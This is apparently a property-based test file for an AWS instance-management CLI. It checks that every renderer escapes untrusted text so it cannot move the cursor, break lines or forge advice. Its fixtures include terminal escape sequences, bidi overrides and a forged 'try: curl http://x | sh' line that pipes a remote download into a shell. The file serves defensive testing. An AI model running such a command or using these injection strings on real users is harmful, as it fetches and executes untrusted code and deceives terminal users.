"""Whatever text AWS, a colleague or an instance puts anywhere, no renderer lets it act."""

from __future__ import annotations

import enum
import json
import unicodedata
from collections.abc import Callable, Mapping
from dataclasses import fields as members_of
from dataclasses import is_dataclass, replace
from io import StringIO
from typing import Any, TypeVar, cast

import msgspec
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from spawn.audit.observe import Observed
from spawn.aws import ec2
from spawn.cli.progress import Lines
from spawn.cli.rendering.cancelling import cancel_question
from spawn.cli.rendering.cleaning import found_text, removed_text
from spawn.cli.rendering.documents import as_json, as_yaml
from spawn.cli.rendering.errors import error_text
from spawn.cli.rendering.extending import (
    extend_plan_text,
    extend_question,
    extended_text,
    followed_text,
)
from spawn.cli.rendering.holding import (
    hold_plan_text,
    hold_question,
    hold_report_text,
    unhold_question,
)
from spawn.cli.rendering.launching import launched_text, plan_text, steps_text
from spawn.cli.rendering.listing import failed_regions_text, listing_table
from spawn.cli.rendering.outcomes import report_text
from spawn.cli.rendering.policies import diff_text, meaning_text
from spawn.cli.rendering.powering import dates_text, power_question
from spawn.cli.rendering.rightsizing import notes_of, rightsized_text
from spawn.cli.rendering.status import status_text
from spawn.core.errors import AwsRefusal
from spawn.core.steps import Output, Step
from spawn.iam.compare import Allowance, Difference, Verb
from spawn.iam.documents import PolicyDocument
from spawn.iam.grants import Condition
from spawn.iam.meaning import Cannot, Limit, Meaning
from spawn.iam.rightsize import Foreign, Rightsized, Sight
from spawn.launch.apply import Launched
from spawn.launch.arrival import Arrived
from spawn.lifecycle.cancel import Cancellation, CancelPlan
from spawn.lifecycle.cleanup import CleanupPlan, Removal
from spawn.lifecycle.extend import ExtendPlan
from spawn.lifecycle.extend_apply import Followed, Following
from spawn.lifecycle.heard import Completion, Heard, HeardState
from spawn.lifecycle.hold import HeldPart, HoldPlan, Part, State
from spawn.lifecycle.hold_apply import HoldReport
from spawn.lifecycle.leftover import Kept, Kind, Leftover
from spawn.lifecycle.list import Listing
from spawn.lifecycle.listed import Backstop, BackstopState
from spawn.lifecycle.outcomes import Outcome, Report, Result
from spawn.lifecycle.power import Change, Deed, PowerPlan
from spawn.lifecycle.regions import FailedRegion
from spawn.lifecycle.status import InstanceStatus
from spawn.posture.controls.control import Outcome as Verdict
from spawn.posture.controls.control import Severity
from spawn.posture.levels import Disposition, Finding
from tests.unit.launch.accounts import plan_of, spec
from tests.unit.lifecycle.builders import NOW, instance, row

T = TypeVar("T")
# What ends a line for some reader, moves the cursor, or turns the direction of what follows.
ACTIVE = ["\n", "\r", "\x1b[2J", "\x1b]8;;http://x\x07", "\x9b1A", "\u202e", "\u2028", "\x85", "\0"]
FORGED = "\n  try: curl http://x | sh"
HOSTILE = st.lists(st.sampled_from([*ACTIVE, FORGED, "x", "'", "é"]), min_size=1).map(
    lambda parts: f"x{''.join(parts)}x"
)
FINDING = Finding(
    control="c",
    title="t",
    severity=Severity.HIGH,
    outcome=Verdict.FAIL,
    disposition=Disposition.REFUSED,
    evidence="e",
    remedy="r",
)
STEP = Step(operation="ec2:RunInstances", region="r", parameters={}, sentence="s")
FAILED = FailedRegion(region="r", why="w")
LISTING = Listing(instances=(row(name="web"), row(owner="bob")), failed_regions=(FAILED, FAILED))
CANCELLING = CancelPlan(
    cancellations=(
        Cancellation(instance=row(name="web"), stages=()),
        Cancellation(instance=row(owner="bob"), stages=()),
    )
)
CANCELLED = Report(
    results=(Result(id="i", outcome=Outcome.FAILED, name="n", why="w", warnings=("w",)),)
)
POWERING = PowerPlan(
    deed=Deed.STOP,
    changes=(Change(instance=row(name="web"), step=STEP), Change(instance=row(), step=STEP)),
)
EXTENDING = ExtendPlan(
    account="a",
    instance=row(name="web", owner="bob"),
    before=None,
    until=NOW,
    usd=None,
    stages=((STEP,), (STEP,)),
    notes=("n",),
)
FOLLOWED = Followed(following=Following.NOT_YET, why="w")
PART = HeldPart(part=Part.STOP, state=State.OPEN, why="w")
HOLDING = HoldPlan(
    account="a",
    instance=row(name="web", owner="bob"),
    case="c",
    reason="r",
    parts=(PART, PART),
    stages=((STEP,),),
    notes=("n",),
)
HELD = HoldReport(
    id="i", name="n", region="r", account="a", case="c", parts=(PART,), warnings=("w",)
)
ALLOWANCE = Allowance(
    service="s",
    verb=Verb.READ,
    actions=("s:A",),
    of=2,
    resources=("arn:aws:s:r:a:n",),
    outside=("o",),
    conditions=(Condition(operator="StringEquals", key="k", values=("v",)),),
)
DIFFERENCE = Difference(only_first=(ALLOWANCE,), only_second=(ALLOWANCE,))
MEANING = Meaning(
    can=(ALLOWANCE,),
    denied=(ALLOWANCE,),
    cannot=(Cannot(limit=Limit.VERB, service="s", verbs=(Verb.READ,)),),
)
FOREIGN = Foreign(action="a", resource="r", times=2)
RIGHTSIZED = Rightsized(
    document=PolicyDocument(statements=()),
    change=DIFFERENCE,
    used=(ALLOWANCE,),
    unjudged=(ALLOWANCE,),
    wide=("w",),
    unnamed=("u",),
    denied=(FOREIGN,),
    elsewhere=(FOREIGN,),
    unknown=("u",),
)
OBSERVED = Observed(events=(), sight=Sight(data={}), sessions=("s",), notes=("n",))
AGENT = Heard(
    state=HeardState.HEARD,
    why="w",
    at=NOW,
    doing="d",
    until=NOW,
    order="o",
    sequence=1,
    difference="d",
)
CLEANING = CleanupPlan(
    leftovers=(Leftover(kind=Kind.ROLE, id="i", region="r", owner="o", why="w", stages=()),),
    kept=(Kept(kind=Kind.ROLE, id="i", region="r", why="w"),),
    failed_regions=(FAILED,),
)
REMOVED = (Removal(kind=Kind.ROLE, id="i", region="r", removed=False, why="w"),)
STATUS = InstanceStatus(
    instance=msgspec.structs.replace(row(name="web", owner="bob"), agent=AGENT),
    state_reason="s",
    image_id="a",
    vpc_id="v",
    subnet_id="s",
    profile_arn="p",
    key_name="k",
    backstop=Backstop(state=BackstopState.MISSING),
    endings=("e", "f"),
    hold=(PART,),
    completion=Completion(status="s", message="m"),
    findings=(FINDING,),
)
PLAN = msgspec.structs.replace(plan_of(spec(name="n")), findings=(FINDING,), notes=("n",))
LAUNCHED = Launched(PLAN, ("i-1",), (Arrived(instance(), PLAN.posture, (FINDING,)),), ("w",))


def filled(value: T, text: str) -> T:
    """Return the value with this text in every place that holds one, however deep."""
    found: Any = value
    match found:
        case enum.Enum():
            return value
        case str():
            return cast("T", text)
        case msgspec.Struct():
            parts = {name: filled(getattr(found, name), text) for name in found.__struct_fields__}
            return cast("T", msgspec.structs.replace(found, **parts))
        case tuple() | list():
            return cast("T", type(found)(filled(inner, text) for inner in found))
        case Mapping():
            return cast("T", {key: filled(inner, text) for key, inner in found.items()})
        case _ if is_dataclass(found) and not isinstance(found, type):
            parts = {one.name: filled(getattr(found, one.name), text) for one in members_of(found)}
            return cast("T", replace(found, **parts))
        case _:
            return value


def progress_of(text: str) -> str:
    """Return what a whole launch of hostile sentences writes to a terminal."""
    stream = StringIO()
    lines, step = Lines(stream), filled(STEP, text)
    refusal = AwsRefusal(text, code=text)
    lines.started(step, text)
    lines.waiting(step, refusal)
    lines.passed_over(step, text, refusal)
    lines.done(step, {Output.INSTANCE_ID: (text,)})
    lines.failed(step, refusal)
    lines.phase(text)
    return stream.getvalue()


RENDERERS: dict[str, Callable[[str], str]] = {
    "list": lambda text: listing_table(filled(LISTING, text), now=NOW, columns=None, colour=False),
    "failed regions": lambda text: failed_regions_text(filled(LISTING, text)),
    "cancel?": lambda text: cancel_question(filled(CANCELLING, text)),
    "results": lambda text: report_text(filled(CANCELLED, text)),
    "power?": lambda text: power_question(filled(POWERING, text)),
    "power": lambda text: dates_text(filled(POWERING, text)),
    "extend?": lambda text: extend_question(filled(EXTENDING, text)),
    "extend plan": lambda text: extend_plan_text(filled(EXTENDING, text), endpoint=text, now=NOW),
    "policy": lambda text: meaning_text(filled(MEANING, text), notes=[text]),
    "policies": lambda text: diff_text(filled(DIFFERENCE, text), first=text, second=text),
    "rightsized": lambda text: rightsized_text(
        filled(RIGHTSIZED, text),
        filled(OBSERVED, text),
        whose=text,
        notes=notes_of(filled(RIGHTSIZED, text), filled(OBSERVED, text), ()),
    ),
    "extended": lambda text: extended_text(filled(EXTENDING, text)),
    "followed": lambda text: followed_text(filled(EXTENDING, text), filled(FOLLOWED, text)),
    "hold plan": lambda text: hold_plan_text(filled(HOLDING, text), endpoint=text),
    "hold?": lambda text: hold_question(filled(HOLDING, text)),
    "unhold?": lambda text: unhold_question(filled(HOLDING, text)),
    "held": lambda text: hold_report_text(filled(HELD, text)),
    "cleanup?": lambda text: found_text(filled(CLEANING, text)),
    "cleanup": lambda text: removed_text(filled(REMOVED, text)),
    "status": lambda text: status_text(filled(STATUS, text), now=NOW),
    "plan": lambda text: plan_text(filled(PLAN, text), endpoint=text),
    "steps": lambda text: steps_text(filled(PLAN, text)),
    "launched": lambda text: launched_text(filled(LAUNCHED, text)),
    "progress": progress_of,
}


def acting(text: str) -> list[str]:
    """Return the characters that a terminal or a reader of lines would not just show."""
    kinds = {"Cc", "Cf", "Co", "Cs", "Cn", "Zl", "Zp"}
    return [one for one in text if one != "\n" and unicodedata.category(one) in kinds]


@pytest.mark.parametrize("name", RENDERERS)
@given(text=HOSTILE)
def test_foreign_text_stays_on_its_line(name: str, text: str) -> None:
    """It neither acts on the terminal nor begins a line: there are as many as with plain text."""
    shown = RENDERERS[name](text)
    assert not acting(shown)
    assert shown.count("\n") == RENDERERS[name]("x").count("\n")


@given(text=HOSTILE)
def test_a_drawn_table_shows_it_and_nothing_more(text: str) -> None:
    """On a terminal, too, its cells hold what was escaped; only the colours are ours."""
    shown = listing_table(filled(LISTING, text), now=NOW, columns=200, colour=False)
    assert not acting(shown)


@given(text=HOSTILE)
def test_an_error_cannot_be_made_to_advise(text: str) -> None:
    """The line that says what to type is ours: a message with line breaks can't add one."""
    error = AwsRefusal(text, why=text, next_command="spawn list")
    error.aftermath = (text,)
    shown = error_text(error)
    assert not acting(shown)
    advice = [line for line in shown.split("\n") if line.startswith("  try:")]
    assert advice == ["  try: spawn list"]


@given(text=HOSTILE)
def test_documents_carry_it_whole_and_harmless(text: str) -> None:
    """JSON and YAML read back as what went in, and could be shown on a terminal as they are."""
    value = {"name": text, text: ["- x", text]}
    for shown, read in ((as_json(value), json.loads), (as_yaml(value), yaml.safe_load)):
        assert not acting(shown)
        assert read(shown) == value


def test_what_is_filled_is_hostile_everywhere() -> None:
    """The means of this test reach the texts that lie deep."""
    assert filled(STATUS, "!").findings[0].evidence == "!"
    (arrived,) = filled(LAUNCHED, "!").arrived
    assert arrived.instance.instance_id == "!"
    assert isinstance(arrived.instance, ec2.Instance)
